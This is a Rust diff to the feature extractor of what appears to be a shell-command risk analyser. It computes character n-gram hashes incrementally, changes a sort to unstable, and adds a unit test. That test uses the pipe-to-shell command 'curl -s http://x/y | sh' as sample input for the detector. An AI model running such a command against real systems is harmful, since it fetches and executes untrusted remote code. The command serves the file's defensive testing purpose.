@@ -176,13 +176,22 @@ pub fn extract(a: &Analysed, set: &FeatureSet) -> Features {
             label,
         });
     };
-    for n in usize::from(set.min_n)..=usize::from(set.max_n) {
-        for (s, w) in bytes.windows(n).enumerate() {
-            push(
-                Kind::Chars,
-                hash(Kind::Chars.seed(), w),
-                Label::Span(s as u32, (s + n) as u32),
-            );
+    // FNV-1a is computed prefix by prefix: from each start, the n-grams of every size come
+    // from one pass over the longest (the values are those of `hash` on each n-gram).
+    let (min_n, max_n) = (usize::from(set.min_n), usize::from(set.max_n));
+    for s in 0..bytes.len() {
+        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ Kind::Chars.seed();
+        for (k, &b) in bytes[s..].iter().take(max_n).enumerate() {
+            h ^= u64::from(b);
+            h = h.wrapping_mul(0x0000_0100_0000_01b3);
+            let n = k + 1;
+            if n >= min_n {
+                push(
+                    Kind::Chars,
+                    h ^ (h >> 29),
+                    Label::Span(s as u32, (s + n) as u32),
+                );
+            }
         }
     }
     let mut prev: Option<(usize, usize)> = None;
@@ -240,7 +249,9 @@ pub fn extract(a: &Analysed, set: &FeatureSet) -> Features {
             Label::Name(l.decoder.to_string()),
         );
     }
-    items.sort_by_key(|f| f.index);
+    // Unstable: of the features sharing a bucket, which one names it in an explanation may
+    // differ from insertion order; the values do not.
+    items.sort_unstable_by_key(|f| f.index);
     items.dedup_by_key(|f| f.index);
     Features { items, normalised }
 }
@@ -256,6 +267,30 @@ mod tests {
             " get-process -id 4 "
         );
         assert!(normalise(&"a".repeat(MAX_FEATURE_BYTES * 2)).len() <= MAX_FEATURE_BYTES + 1);
+    }
+
+    #[test]
+    fn char_ngrams_hash_as_each_ngram_alone() {
+        let a = crate::Analyzer::new(None, crate::VerdictConfig::default())
+            .examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
+        let set = FeatureSet {
+            words: false,
+            analysis: false,
+            ..FeatureSet::default()
+        };
+        let f = extract(&a, &set);
+        let bytes = f.normalised.as_bytes();
+        let mask = (1u64 << set.bits) - 1;
+        let mut expected: Vec<u32> = Vec::new();
+        for n in usize::from(set.min_n)..=usize::from(set.max_n) {
+            for w in bytes.windows(n) {
+                expected.push((hash(Kind::Chars.seed(), w) & mask) as u32);
+            }
+        }
+        expected.sort_unstable();
+        expected.dedup();
+        let got: Vec<u32> = f.items.iter().map(|i| i.index).collect();
+        assert_eq!(got, expected);
     }
 
     #[test]
